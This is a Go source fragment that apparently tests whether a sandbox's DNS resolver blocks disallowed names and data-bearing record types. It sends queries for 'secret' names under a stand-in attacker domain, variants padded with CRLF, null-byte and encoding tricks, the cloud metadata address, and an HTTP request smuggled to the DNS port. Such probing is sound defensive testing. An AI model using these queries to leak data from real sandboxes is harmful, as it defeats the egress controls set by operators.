package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"time"
)

const resolver = "198.18.0.1:53"

// patience is for what must be answered at once, on a machine that is emulated and busy.
const patience = time.Minute

// Names that are not allowed, and types by which an allowed one could tell more than an address.
func names() {
	types := map[string]uint16{"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "ANY": 255, "AXFR": 252}
	for _, name := range []string{
		"secret.evil.example", "secret.a.example", "secreta.example", "a.example.secret", "b\xc3\xbccher.secret.example", "a\x00secret.example",
		"secret\r\n.example", "secret%2e.example", "169.254.169.254", strings.Repeat("secret", 10) + ".evil.example", "secret..a.example",
	} {
		for t, n := range types {
			for _, network := range []string{"udp", "tcp"} {
				tell("dns", fmt.Sprint(network, " ", t, " ", name), answered(ask(network, question(name, n))))
			}
		}
	}
	for t, n := range types {
		if t != "A" && t != "AAAA" {
			tell("dns", t+" a.example", answered(ask("udp", question("a.example", n))))
		}
	}
	for _, network := range []string{"udp", "tcp"} {
		got := ask(network, []byte("GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
		left := ""
		if strings.Contains(string(got), "HTTP") {
			left = string(got)
		}
		tell("dns", network+" what is no question", left)
	}
}

func question(name string, kind uint16) []byte {
	b := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(binary.BigEndian.AppendUint16(append(b, 0), kind), 0, 1)
}

// ask gives what a resolver answers within a moment, as a datagram has it.
func ask(network string, q []byte) []byte {
	c, err := net.Dial(network, resolver)
	if err != nil {
		return nil
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	b := make([]byte, 4096)
	if network == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	_, _ = c.Write(q)
	n, _ := c.Read(b)
	if network == "tcp" {
		return b[min(n, 2):n]
	}
	return b[:n]
}

// answered says what an answer tells, "" if nothing.
func answered(b []byte) string {
	if len(b) < 12 || binary.BigEndian.Uint16(b[6:]) == 0 {
		return ""
	}
	return string(b)
}
